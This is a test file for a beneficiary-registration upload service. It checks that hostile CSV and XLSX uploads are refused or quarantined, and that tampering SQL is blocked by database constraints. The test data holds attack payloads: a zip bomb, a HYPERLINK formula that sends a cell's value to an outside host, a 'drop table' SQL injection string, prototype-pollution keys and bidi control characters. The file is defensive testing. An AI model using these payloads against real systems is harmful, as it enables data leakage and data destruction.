import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { refusedRowsOf } from '../../test/support/exports.ts';
import { makeFrame } from '../../test/support/fixtures.ts';
import { type Client, startPlatform, type TestPlatform } from '../../test/support/platform.ts';
import { fileOf, header, many, registrationRow as row } from '../../test/support/registration-files.ts';
import { cellsOf, written } from '../../test/support/tables.ts';
import { zipOf } from '../../test/support/workbooks.ts';
import { loadPilotGeography } from '../seeding.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const columns = header.split(',');

describe('a hostile file', () => {
  let platform: TestPlatform;
  let officer: Client;

  beforeAll(async () => {
    platform = await startPlatform();
    await loadPilotGeography(platform.app.execute);
    officer = await platform.as('enrolment_officer');
  });
  afterAll(() => platform.close());

  const programme = async () => (await makeFrame(platform)).programmeId;
  const send = async (content: string | Buffer, type = 'text/csv') =>
    officer
      .post(`/v1/programmes/${await programme()}/registration-files?start=true`)
      .type(type)
      .send(content);
  const take = async (content: string | Buffer, type?: string) => {
    const { body, status } = await send(content, type);
    expect(status, JSON.stringify(body)).toBe(202);
    await platform.settled();
    return (await officer.get(`/v1/registration-files/${body.id}`).expect(200)).body;
  };
  const refusal = async (content: string | Buffer, type?: string) => {
    const { body, status } = await send(content, type);
    expect(status, JSON.stringify(body).slice(0, 500)).toBe(422);
    return body as { detail: string; errors?: { cell?: string; detail: string }[] };
  };
  const reasons = async (id: string) => {
    const { body } = await officer.get(`/v1/registration-files/${id}/refused-rows`).expect(200);
    return body.items.map((item: { rowNumber: number; reasons: { cell: string; code: string }[] }) => [
      item.rowNumber,
      ...item.reasons.map(({ cell, code }) => `${cell}: ${code}`),
    ]);
  };
  /** A row with one cell changed. */
  const changed = (n: number, column: string, cell: string) => {
    const cells = row(n).split(',');
    cells[columns.indexOf(column)] = `"${cell.replaceAll('"', '""')}"`;
    return cells.join(',');
  };

  it('that is not what it says is refused with what to do', async () => {
    expect((await refusal('\n\n  \n')).detail).toContain('empty');
    expect((await refusal(fileOf(row(1)), XLSX)).detail).toContain('XLSX');
    expect((await refusal(Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]))).detail).toMatch(/\w/);
    expect((await refusal(await zipOf({ 'readme.txt': 'no workbook' }), XLSX)).detail).toMatch(/XLSX/);
    expect((await refusal('{"a": ', 'application/json')).detail).toMatch(/\w/);
    const { rows } = await platform.owner.query('select count(*)::int as count from registration_files');
    expect(rows[0].count).toBe(0);
  });

  it('that is a zip bomb is refused before it is unpacked', async () => {
    const bomb = await zipOf({
      '[Content_Types].xml': '<Types/>',
      'xl/workbook.xml': '<workbook/>',
      'xl/worksheets/sheet1.xml': Buffer.alloc(300 * 1024 * 1024, ' '),
    });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    expect((await refusal(bomb, XLSX)).detail).toMatch(/\w/);
  });

  it('with tricks in the header is refused with every cell named', async () => {
    expect((await refusal(`${header},Sex\n${row(1)},F`)).errors).toMatchObject([{ cell: 'Sex', code: 'column_twice' }]);
    expect((await refusal(`${header},,Phone 2\n${row(1)},,1`)).errors).toMatchObject([{ cell: 'column 18', code: 'column_unnamed' }]);
    expect((await refusal(`${header},Se\u202Ex\n${row(1)},F`)).errors).toMatchObject([{ cell: 'Se?x', code: 'column_unseen' }]);
    expect((await refusal(Array.from({ length: 10_000 }, (_, i) => `c${i}`).join(','))).detail).toContain('1000');
    const waiting = await take(`${header},__proto__,constructor\n${row(1)},x,y`);
    expect(waiting).toMatchObject({ state: 'received' });
    expect(waiting.unsettled.map(({ cell }: { cell: string }) => cell)).toEqual(['__proto__', 'constructor']);
  });

  it('with one giant cell or an open quotation is refused with its line', async () => {
    expect((await refusal(fileOf(row(1), changed(2, 'Given name', 'x'.repeat(10 * 1024 * 1024))))).detail).toMatch(/3/);
    expect((await refusal(fileOf(row(1), row(2).replace('MLI', '"MLI'), row(3)))).detail).toMatch(/quotation mark/);
  });

  it('has its bad rows kept back for what is wrong with them, and its good ones entered', async () => {
    const file = await take(
      fileOf(
        row(1),
        changed(2, 'Given name', '=HYPERLINK("http://example.org/?"&A1)'),
        changed(3, 'Given name', 'Ami\u202Ena'),
        changed(4, 'Family name', 'Ben\u0007ali'),
        changed(5, 'Household', 'H\u20665'),
        changed(6, 'Household', '__proto__'),
        changed(7, 'Date of birth', '31/02/1990'),
        row(8).replace(',Passport,', ',Passport,extra,'),
        row(9).split(',').slice(0, 9).join(','),
        changed(10, 'Document number', `N${'9'.repeat(500)}`),
        changed(11, 'Household size', '1e9'),
        changed(12, 'Phone', "'; drop table beneficiaries; --"),
        changed(13, 'Given name', '😀\u{1F468}\u200D\u{1F469}'),
        changed(14, 'Given name', `'${'+'}Amina`),
        row(15),
        changed(16, 'Given name', '?????'),
        changed(17, 'Family name', '12345'),
        changed(18, 'Given name', 'Ã‰lodie'),
      ),
    );
    expect(await reasons(file.id)).toEqual([
      [3, 'Given name: formula_in_name'],
      [4, 'Given name: control_characters'],
      [5, 'Family name: control_characters'],
      [6, 'Household: control_characters'],
      [8, 'Date of birth: birth_impossible'],
      [9, ': cells_wrong'],
      [10, ': cells_wrong'],
      [11, 'Document number: document_number_too_long'],
      [12, 'Household size: household_size_invalid'],
      [13, 'Phone: phone_invalid'],
      [14, 'Given name: control_characters'],
      [15, 'Given name: formula_in_name'],
      [17, 'Given name: name_lost_letters'],
      [18, 'Family name: name_without_letters'],
      [19, 'Given name: name_lost_letters'],
    ]);
    expect(file).toMatchObject({ state: 'done', totalRows: 18, acceptedRows: 3, refusedRows: 15 });
    const { text } = await refusedRowsOf(platform, officer, file.id);
    const back = await cellsOf(text);
    expect(text).toContain(`'=HYPERLINK`);
    expect(back[1]?.[4]).toBe('=HYPERLINK("http://example.org/?"&A1)');
  });

  it('does not say that people consented online, or without the evidence that it has a column for', async () => {
    const rows = [
      changed(1, 'Consent method', 'online'),
      row(2),
      changed(3, 'Consent method', 'audio'),
      changed(4, 'Consent method', 'witnessed_verbal'),
    ];
    expect(await reasons((await take(fileOf(...rows))).id)).toEqual([[2, 'Consent method: consent_online_by_others']]);
    const evidenced = [`${header},Consent reference,Witness`, `${rows[2]},,`, `${rows[3]},,`, `${row(5)},Paper 5,`, `${row(6)},,Ali`].join(
      '\n',
    );
    expect(await reasons((await take(evidenced)).id)).toEqual([
      [2, 'Consent reference: consent_reference_missing'],
      [3, 'Witness: consent_witness_missing'],
      [5, 'Consent reference: consent_reference_missing'],
    ]);
  });

  it('in another encoding, with mixed line ends and a million empty lines is read as it was meant', async () => {
    const french = fileOf(changed(1, 'Given name', 'Zoé'), changed(2, 'Given name', 'Noël'));
    for (const bytes of [
      Buffer.from(french, 'latin1'),
      Buffer.from(`\uFEFF${french}`, 'utf16le'),
      Buffer.from(french.replace('\n', '\r\n').replace(/\n(?=[^\n]*$)/, '\r')),
      Buffer.from(french.replace('\n', '\n'.repeat(1_000_000))),
    ]) {
      expect(await take(bytes)).toMatchObject({ state: 'done', totalRows: 2, acceptedRows: 2 });
    }
    const { rows } = await platform.owner.query(
      `select count(*)::int as count from registration_files where format ->> 'encoding' <> 'utf-8'`,
    );
    expect(rows[0].count).toBe(2);
  });

  it('in UTF-8 with one letter cut in two is refused with its line, and nobody gets a name of signs', async () => {
    const [before = '', after = ''] = fileOf(changed(1, 'Given name', 'Chérif'), changed(2, 'Given name', 'Zoé'), row(3)).split(/(?<=Zoé)/);
    const { detail } = await refusal(Buffer.concat([Buffer.from(before).subarray(0, -1), Buffer.from(after)]));
    expect(detail).toContain('Line 3 is not in UTF-8');
    expect(detail).not.toContain('Ch');
  });

  it('in an older encoding gives its refused rows back in it, where the reasons can be written in it', async () => {
    const file = await take(
      Buffer.from(fileOf(changed(1, 'Given name', 'Zoé'), changed(2, 'Given name', 'Noël').replace('MLI', '?')), 'latin1'),
    );
    expect(file).toMatchObject({ format: { encoding: 'windows-1252' }, refusedRows: 1 });
    for (const [language, encoding] of [
      ['fr', 'windows-1252'],
      ['ar', 'utf-8'],
    ] as const) {
      const { content } = await refusedRowsOf(platform, officer, file.id, language);
      expect(new TextDecoder(encoding, { fatal: true }).decode(content)).toContain('Noël');
      const [, back] = await cellsOf(content);
      expect(back?.[4]).toBe('Noël');
      expect(back?.at(-1)).toMatch(language === 'fr' ? /Écrivez/ : /[\u0600-\u06FF]/);
    }
  });

  it('as a workbook gives its refused rows back as a workbook', async () => {
    const cells = [...many(2), changed(3, 'Sex', '?').replaceAll('"', '')].map((text) => text.split(','));
    const file = await take(await written({ kind: 'xlsx' }, [columns, ...cells]), XLSX);
    expect(file).toMatchObject({ state: 'done', format: { kind: 'xlsx' }, acceptedRows: 2, refusedRows: 1 });
    const { name, content } = await refusedRowsOf(platform, officer, file.id, 'fr');
    expect(name).toBe('refused-rows.xlsx');
    const [first, second] = await cellsOf(content, XLSX);
    expect(first).toEqual([...columns, 'Ligne du fichier', 'Motifs']);
    expect(second?.slice(0, 17)).toEqual(cells[2]);
    expect(second?.[17]).toBe('4');
    expect(second?.[18]).toMatch(/^Sex: /);
  });

  it('puts nothing of a person into what is logged, audited, queued or answered', async () => {
    const secret = 'Zanoubia';
    await refusal(fileOf(changed(1, 'Given name', secret), `"${secret}`));
    const file = await take(fileOf(changed(1, 'Given name', secret), changed(2, 'Sex', secret)));
    await officer.post(`/v1/registration-files/${file.id}/cancel`).expect(409);
    expect(JSON.stringify(file)).not.toContain(secret);
    expect(platform.log.join('')).not.toContain(secret);
    const { rows: tables } =
      await platform.owner.query(`select format('%I.%I', table_schema, table_name) as name from information_schema.tables
      where table_schema in ('public', 'bullmq') and table_type = 'BASE TABLE'`);
    for (const { name } of tables) {
      const { rows } = await platform.owner.query(`select count(*)::int as count from ${name} t where t::text ilike '%${secret}%'`);
      expect(rows[0].count, name).toBe(0);
    }
  });
});

describe('the tables of files', () => {
  let platform: TestPlatform;
  let fileId: string;
  beforeAll(async () => {
    platform = await startPlatform();
    await loadPilotGeography(platform.app.execute);
    const { programmeId } = await makeFrame(platform);
    const officer = await platform.as('enrolment_officer');
    const { body } = await officer.post(
      `/v1/programmes/${programmeId}/registration-files?start=true`,
      fileOf(row(1), row(2).replace('MLI', '?')),
    );
    fileId = body.id;
    await platform.settled();
  });
  afterAll(() => platform.close());

  it.each([
    [`delete from registration_files`, { code: '42501' }],
    [`delete from registration_chunks`, { constraint: 'registration_chunks_append_only' }],
    [`update registration_chunks set rows = ''`, { constraint: 'registration_chunks_append_only' }],
    [
      `update registration_files set emptied_at = now() where state = 'running'; delete from registration_chunks`,
      { constraint: 'registration_chunks_append_only' },
    ],
    [`delete from registration_refusals`, { code: '42501' }],
    [`update registration_refusals set reasons = '[{}]'`, { code: '42501' }],
    [`update registration_files set content_index = '\\x00'`, { code: '42501' }],
    [`update registration_files set state = 'running'`, { constraint: 'registration_files_transition' }],
    [`update registration_files set state = 'received'`, { constraint: 'registration_files_transition' }],
    [`update registration_files set done_rows = done_rows + 1`, { code: '23514' }],
    [`update registration_files set duplicate_rows = 5`, { code: '23514' }],
    [`update registration_files set compared_rows = 3`, { code: '23514' }],
    [`update registration_files set mapping = null`, { code: '23514' }],
    [`insert into registration_refusals select file_id, attempt, row_number, reasons from registration_refusals`, { code: '23505' }],
    [`insert into registration_refusals select file_id, attempt, row_number + 1, '[]' from registration_refusals`, { code: '23514' }],
    [`insert into registration_chunks select file_id, number + 1, first_row, row_count, rows from registration_chunks`, { code: '23505' }],
    [
      `insert into registration_chunks (file_id, number, first_row, row_count, file_rows, rows)
      select file_id, number + 1, first_row + row_count, row_count, '{7}', rows from registration_chunks`,
      { constraint: 'registration_chunks_every_row_placed' },
    ],
    [`update registration_chunks set file_rows = null`, { code: '42501' }],
    [`update registration_files set date_orders = '{"Born": "year_first"}'`, { constraint: 'registration_files_known_orders' }],
    [`update registration_files set date_orders = '{"Born": 1}'`, { constraint: 'registration_files_known_orders' }],
    [`update registration_files set sheets_beside = '[]'`, { code: '42501' }],
    [
      `insert into registration_files select gen_random_uuid(), programme_id, content_index, format, columns, mapping, 'received', total_rows from registration_files`,
      { code: '23502' },
    ],
    [
      `insert into registration_files (id, programme_id, content_index, columns, state, total_rows, uploaded_by, uploaded_at)
      select gen_random_uuid(), programme_id, '\\x01', columns, 'done', 0, uploaded_by, uploaded_at from registration_files`,
      { constraint: 'registration_files_first_state' },
    ],
    [
      `insert into registration_files (id, programme_id, content_index, columns, total_rows, uploaded_by, uploaded_at)
      select gen_random_uuid(), programme_id, content_index, columns, 0, uploaded_by, uploaded_at from registration_files`,
      { code: '23505' },
    ],
    [
      `insert into beneficiaries (id, registration_number, household_id, relationship, sex, language, wilaya_number, commune, source, source_id, source_row, registered_by, registered_at)
      select gen_random_uuid(), '9999999999', household_id, relationship, sex, language, wilaya_number, commune, source, source_id, source_row, registered_by, registered_at
      from beneficiaries where source_row = 1`,
      { code: '23505' },
    ],
  ])('refuse in plain SQL: %s', async (statement, error) => {
    const client = await platform.applicationClient();
    await client.query('begin');
    await expect(client.query(statement)).rejects.toMatchObject(error);
    await client.query('rollback');
    const { rows } = await platform.owner.query('select state, done_rows from registration_files where id = $1', [fileId]);
    expect(rows).toEqual([{ state: 'done', done_rows: 2 }]);
  });
});
